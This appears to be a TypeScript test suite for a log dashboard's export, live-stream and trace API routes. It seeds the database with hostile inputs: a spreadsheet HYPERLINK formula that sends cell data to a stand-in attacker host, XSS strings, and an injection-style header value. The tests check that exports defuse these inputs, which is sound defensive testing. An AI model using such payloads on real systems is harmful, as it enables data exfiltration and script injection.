// The dashboard's API route handlers, called as Next.js calls them (a Request in, a Response out) against a real,
// migrated SQLite database: export, live stream, trace.
import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import type { PrismaClient } from '../generated/prisma/client.ts';
import { runExport } from '../cli/export-command.ts';
import { deployMigrations } from '../store/migrate.ts';
import { disconnectAll, prismaClientFor } from '../store/prisma-client.ts';
import { tempSqliteDatabase, type TempDatabase } from '../testing/temp-database.ts';
import type { LiveRecord } from './live-record.ts';
import { liveRecordStream } from './live-stream.ts';

type Handler = (request: Request, context?: unknown) => Promise<Response>;
const T0 = Date.UTC(2025, 11, 16, 10, 5, 56);
const HOSTILE_UA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

describe('dashboard API routes', () => {
  let db: TempDatabase;
  let prisma: PrismaClient;
  let sourceId: number;
  let seq = 0;
  let exportGET: Handler;
  let liveGET: Handler;
  let traceGET: (request: Request, context: { params: Promise<{ id: string }> }) => Promise<Response>;

  const insert = async (over: Record<string, unknown> = {}) =>
    (await prisma.accessRecord.create({
      data: { sourceId, seq: ++seq, startTime: new Date(T0 + seq * 1000), method: 'GET', path: '/api/items', status: 200, durationMs: 5, ...over },
    })).id;

  before(async () => {
    db = tempSqliteDatabase('dashboard-routes');
    await deployMigrations(db.url);
    process.env.DATABASE_URL = db.url; // read by loadSettings() when a handler runs
    prisma = await prismaClientFor(db.url);
    sourceId = (await prisma.source.create({ data: { key: 'pod:uid-front/envoy/c1', kind: 'pod', namespace: 'shop', pod: 'front', container: 'envoy', format: 'text' } })).id;
    await insert({ requestId: 'req-ok-1', upstreamHost: '10.244.0.7:8080', upstreamKind: 'pod', upstreamPod: 'api-1', upstreamNamespace: 'shop' });
    await insert({ requestId: 'req-bad-1', status: 500, path: '/api/orders', userAgent: HOSTILE_UA, upstreamHost: '10.96.0.10:80', upstreamKind: 'service', upstreamService: 'api' });
    await insert({ requestId: 'req-bad-1', status: 503, path: '/api/orders', durationMs: 2, responseFlags: 'UF' });
    await insert({ requestId: '<img src=x onerror=alert(1)>', userAgent: '<script>alert(2)</script>' });
    ({ GET: exportGET } = await import('../../app/api/export/route.ts'));
    ({ GET: liveGET } = await import('../../app/api/live/route.ts'));
    ({ GET: traceGET } = await import('../../app/api/trace/[id]/route.ts'));
  });
  after(async () => {
    await disconnectAll();
    db.remove();
  });

  const get = (handler: Handler, query: string, init?: RequestInit) => handler(new Request(`http://localhost/api/x${query}`, init));

  async function expect400(response: Response, param: string) {
    assert.equal(response.status, 400);
    assert.match(response.headers.get('content-type') ?? '', /application\/json/);
    const body = (await response.json()) as { error: string; param: string };
    assert.equal(body.param, param);
    assert.ok(body.error.startsWith(`${param}: `), body.error);
    assert.doesNotMatch(body.error, /\bat .+:\d+:\d+/, 'no stack trace');
  }

  test('bad export parameters answer 400 naming the parameter', async () => {
    await expect400(await get(exportGET, '?format=xlsx'), 'format');
    await expect400(await get(exportGET, ''), 'format');
    await expect400(await get(exportGET, '?format=csv&format=ndjson'), 'format');
    await expect400(await get(exportGET, '?format=csv&status=6xx'), 'status');
    await expect400(await get(exportGET, '?format=csv&ns=a&ns=b'), 'ns');
    await expect400(await get(exportGET, '?format=csv&path=no-slash'), 'path');
    await expect400(await get(exportGET, '?format=csv&from=yesterday'), 'from');
  });

  test('CSV export of a filter: an attachment, the CLI columns, hostile text defused', async () => {
    const response = await get(exportGET, '?format=csv&range=all&status=5xx&ns=shop');
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="envoy-lens-requests-shop-5xx-all-\d{8}T\d{6}Z\.csv"$/);
    const text = await response.text();
    const lines = text.trimEnd().split('\n');
    assert.equal(lines.length, 3, 'header and the two 5xx records');
    assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), 'the formula starts with a quote');
    assert.ok(!/(^|,)"?=HYPERLINK/m.test(text));
    // The same bytes as `envoy-lens export --format csv` for the same records.
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await runExport(db.url, 'csv', { statusClass: 5, namespace: 'shop' }, out);
    assert.equal(text, Buffer.concat(chunks).toString('utf8'));
  });

  test('NDJSON export: one record per line, log text as is', async () => {
    const response = await get(exportGET, '?format=ndjson&range=all');
    assert.equal(response.headers.get('content-type'), 'application/x-ndjson; charset=utf-8');
    const records = (await response.text()).trimEnd().split('\n').map((l) => JSON.parse(l) as { requestId: string; userAgent: string | null });
    assert.ok(records.length >= 4);
    assert.equal(records[3]!.requestId, '<img src=x onerror=alert(1)>');
    assert.equal(records[1]!.userAgent, HOSTILE_UA);
  });

  test('the live stream sends a matching record inserted after connecting, and ends when the browser goes away', async () => {
    const response = await get(liveGET, '?status=5xx');
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('content-type'), 'text/event-stream; charset=utf-8');
    const events = eventReader(response.body!);
    const ready = await events.next('ready');
    const start = Number(ready.id);
    assert.equal(start, Number((await prisma.accessRecord.aggregate({ _max: { id: true } }))._max.id));
    await insert({ status: 200, path: '/not/shown' });
    const wanted = await insert({ status: 502, path: '/live/<b>new</b>', requestId: 'live-1' });
    const batch = await events.next('records');
    const records = JSON.parse(batch.data) as LiveRecord[];
    assert.deepEqual(records.map((r) => [r.id, r.path, r.status]), [[wanted, '/live/<b>new</b>', 502]]);
    assert.equal(Number(batch.id), wanted);
    // A browser that goes away cancels the response body (what the server does on a closed connection).
    await events.cancel();
    await assert.rejects(events.next('records', 1500), /stream|cancel|released/i);
  });

  test('a live cursor from another database starts from now; an unmigrated database is polled quietly', async () => {
    const newest = Number((await prisma.accessRecord.aggregate({ _max: { id: true } }))._max.id);
    const abort = new AbortController();
    const events = eventReader(liveRecordStream(prisma, { filter: {}, afterId: newest + 1_000_000, signal: abort.signal, pollMs: 50 }));
    assert.equal(Number((await events.next('ready')).id), newest);
    abort.abort();
    await events.closed(10_000);

    const empty = tempSqliteDatabase('live-empty');
    try {
      const stop = new AbortController();
      const errors: unknown[] = [];
      const reader = eventReader(liveRecordStream(await prismaClientFor(empty.url), { filter: {}, signal: stop.signal, pollMs: 50 }));
      assert.equal(Number((await reader.next('ready')).id), 0);
      await new Promise((r) => setTimeout(r, 300));
      stop.abort();
      await reader.closed(10_000).catch((e: unknown) => errors.push(e));
      assert.deepEqual(errors, []);
    } finally {
      empty.remove();
    }
  });

  test('the live stream ends when its request signal aborts', async () => {
    // Called directly with the signal: a Request built in a test follows its init signal only weakly (undici), so
    // a garbage collection between abort and delivery could hide the abort from the route.
    const abort = new AbortController();
    const events = eventReader(liveRecordStream(prisma, { filter: {}, signal: abort.signal, pollMs: 50 }));
    await events.next('ready');
    abort.abort();
    await events.closed(10_000);
  });

  test('the live stream resumes after a given id or Last-Event-ID, and refuses bad ones', async () => {
    const first = (await prisma.accessRecord.findFirst({ orderBy: { id: 'asc' } }))!.id;
    for (const init of [{ query: `?after=${first}` }, { query: '', headers: { 'Last-Event-ID': String(first) } }]) {
      const abort = new AbortController();
      const response = await get(liveGET, `${init.query}${init.query ? '&' : '?'}path=/api/orders`, { signal: abort.signal, headers: init.headers });
      const events = eventReader(response.body!);
      assert.equal(Number((await events.next('ready')).id), first);
      const records = JSON.parse((await events.next('records')).data) as LiveRecord[];
      assert.deepEqual(records.map((r) => r.requestId), ['req-bad-1', 'req-bad-1']);
      abort.abort();
      await events.closed(10_000);
    }
    await expect400(await get(liveGET, '?after=abc'), 'after');
    await expect400(await get(liveGET, '?after=-1'), 'after');
    await expect400(await get(liveGET, '', { headers: { 'Last-Event-ID': '1; drop' } }), 'Last-Event-ID');
    await expect400(await get(liveGET, '?status=2xx&status=5xx'), 'status');
  });

  test('the trace route: the trace of an exact id, the ids for a prefix, 404 for none, 400 for a bad id', async () => {
    const call = (id: string) => traceGET(new Request(`http://localhost/api/trace/${encodeURIComponent(id)}`), { params: Promise.resolve({ id }) });
    const exact = await call('req-bad-1');
    assert.equal(exact.status, 200);
    const body = (await exact.json()) as { kind: string; trace: { requestId: string; hops: unknown[] } };
    assert.equal(body.kind, 'trace');
    assert.deepEqual([body.trace.requestId, body.trace.hops.length], ['req-bad-1', 2]);
    const prefix = (await (await call('req-')).json()) as { kind: string; matches: { requestId: string }[] };
    assert.equal(prefix.kind, 'matches');
    assert.deepEqual(prefix.matches.map((m) => m.requestId).sort(), ['req-bad-1', 'req-ok-1']);
    const hostile = (await (await call('<img src=x onerror=alert(1)>')).json()) as { kind: string };
    assert.equal(hostile.kind, 'trace');
    // Three characters are looked up exactly only: a prefix that short would match most of a large table.
    const short = await call('req');
    assert.equal(short.status, 404);
    const none = await call('nothing-like-this');
    assert.equal(none.status, 404);
    assert.match(((await none.json()) as { error: string }).error, /^id: /);
    await expect400(await call(''), 'id');
    await expect400(await call('x'.repeat(257)), 'id');
  });
});

/** Reads Server-Sent Events from a response body: the next event of a name, and the end of the stream. */
function eventReader(body: ReadableStream<Uint8Array>) {
  const reader = body.getReader();
  const decoder = new TextDecoder();
  let buffer = '';
  let done = false;
  const pull = async (deadline: number): Promise<void> => {
    const timeout = new Promise<never>((_, reject) => setTimeout(() => reject(new Error('timed out waiting for the stream')), Math.max(0, deadline - Date.now())).unref());
    const chunk = await Promise.race([reader.read(), timeout]);
    if (chunk.done) done = true;
    else buffer += decoder.decode(chunk.value, { stream: true });
  };
  return {
    async next(name: string, ms = 20_000): Promise<{ event: string; id: string | undefined; data: string }> {
      const deadline = Date.now() + ms;
      for (;;) {
        const end = buffer.indexOf('\n\n');
        if (end >= 0) {
          const block = buffer.slice(0, end);
          buffer = buffer.slice(end + 2);
          const fields = block.split('\n').filter((l) => !l.startsWith(':')).map((l) => [l.slice(0, l.indexOf(':')), l.slice(l.indexOf(':') + 2)] as const);
          const event = fields.find(([k]) => k === 'event')?.[1] ?? 'message';
          if (event === name) return { event, id: fields.find(([k]) => k === 'id')?.[1], data: fields.filter(([k]) => k === 'data').map(([, v]) => v).join('\n') };
          continue;
        }
        if (done) throw new Error(`the stream ended before a ${name} event`);
        await pull(deadline);
      }
    },
    async cancel(): Promise<void> {
      await reader.cancel();
    },
    async closed(ms: number): Promise<void> {
      const deadline = Date.now() + ms;
      while (!done) await pull(deadline);
    },
  };
}
